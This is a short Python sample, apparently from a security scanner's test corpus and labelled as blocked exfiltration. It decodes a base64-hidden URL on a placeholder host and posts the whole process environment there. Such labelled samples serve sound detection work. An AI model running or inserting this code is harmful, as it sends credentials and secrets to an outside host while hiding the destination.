# pyguard-corpus: verdict=block category=exfil rules=PG607,PG601
# what: decodes the destination URL from base64 so it never appears in the source, then posts the environment there
import base64
import os

import requests

endpoint = base64.b64decode("aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUubmV0L2U=").decode()
requests.post(endpoint, json=dict(os.environ), timeout=10)
